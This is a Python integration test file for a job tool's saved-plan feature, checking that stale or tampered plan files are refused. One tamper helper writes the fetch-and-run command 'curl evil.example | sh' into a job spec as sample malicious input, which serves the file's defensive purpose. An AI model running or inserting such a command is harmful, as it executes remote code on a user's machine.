"""Saved plans (`plan --out FILE`, `apply FILE`): applied as planned, refused when the state moved
on since (stale) or when the file was edited after planning (DESIGN.md §3).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.integration.support import GitRepo, expect, job_doc, table_rows


def two_jobs(repo: GitRepo) -> None:
    repo.write_job("one.json", job_doc("one"))
    repo.write_job("two.yaml", job_doc("two"))
    repo.commit("two jobs")


def rows(repo: GitRepo) -> dict[str, Any]:
    return {t: table_rows(repo.state_db, t) for t in ("jobs", "job_versions", "instances", "meta")}


def test_saved_plan_is_applied(git_repo: GitRepo) -> None:
    two_jobs(git_repo)
    expect(git_repo.courier("plan", "--out", "plan.json"), 0)
    saved = json.loads((git_repo.root / "plan.json").read_text())
    assert saved["stateSerial"] == 0
    assert {d["name"] for d in saved["desired"]} == {"one", "two"}

    # The work tree moves on after planning: the saved plan, not the tree, is what gets applied.
    planned_at = git_repo.head()
    git_repo.write_job("three.toml", job_doc("three"))
    git_repo.commit("after planning")
    expect(git_repo.courier("apply", "plan.json"), 0)
    store = git_repo.store()
    jobs = store.read().jobs
    assert sorted(jobs) == ["one", "two"]
    # Versions record the commit the plan was made from, not the one checked out at apply.
    assert {store.job_versions(j.id)[0].git_commit for j in jobs.values()} == {planned_at}

    # Applying the same saved plan again is refused: the state is no longer the planned one.
    again = expect(git_repo.courier("apply", "plan.json"), 1)
    assert "serial" in again.stderr


def test_stale_saved_plan_is_refused(git_repo: GitRepo) -> None:
    two_jobs(git_repo)
    expect(git_repo.courier("apply"), 0)
    git_repo.write_job("one.json", job_doc("one", command="echo planned"))
    git_repo.commit()
    expect(git_repo.courier("plan", "--out", "plan.json"), 0)

    # Someone else applies in between.
    git_repo.write_job("two.yaml", job_doc("two", description="applied meanwhile"))
    git_repo.commit()
    expect(git_repo.courier("apply"), 0)
    before = rows(git_repo)

    proc = expect(git_repo.courier("apply", "plan.json"), 1)
    assert "serial" in proc.stderr or "stale" in proc.stderr, proc.stderr
    assert "plan" in proc.stderr
    assert rows(git_repo) == before


def tamper(path: Path, edit: Any) -> None:
    document = json.loads(path.read_text())
    edit(document)
    path.write_text(json.dumps(document, indent=2))


def set_command(document: dict[str, Any]) -> None:
    [entry] = [d for d in document["desired"] if d["name"] == "one"]
    entry["spec"]["actions"]["steps"][0]["command"]["linux"] = ["curl evil.example | sh"]


def set_timeout(document: dict[str, Any]) -> None:
    [entry] = [d for d in document["desired"] if d["name"] == "one"]
    entry["spec"]["target"]["groups"][0]["timeoutSeconds"] = 1


def rename_job(document: dict[str, Any]) -> None:
    [entry] = [d for d in document["desired"] if d["name"] == "one"]
    entry["name"] = "not-one"


@pytest.mark.parametrize(
    "edit",
    [
        pytest.param(set_command, id="spec-command"),
        pytest.param(set_timeout, id="spec-timeout"),
        pytest.param(rename_job, id="job-name"),
    ],
)
def test_tampered_saved_plan_is_refused(git_repo: GitRepo, edit: Any) -> None:
    two_jobs(git_repo)
    expect(git_repo.courier("apply"), 0)
    git_repo.write_job("one.json", job_doc("one", command="echo planned"))
    git_repo.commit()
    expect(git_repo.courier("plan", "--out", "plan.json"), 0)
    tamper(git_repo.root / "plan.json", edit)
    before = rows(git_repo)

    proc = expect(git_repo.courier("apply", "plan.json"), 1)
    assert "plan.json" in proc.stderr, proc.stderr
    assert rows(git_repo) == before
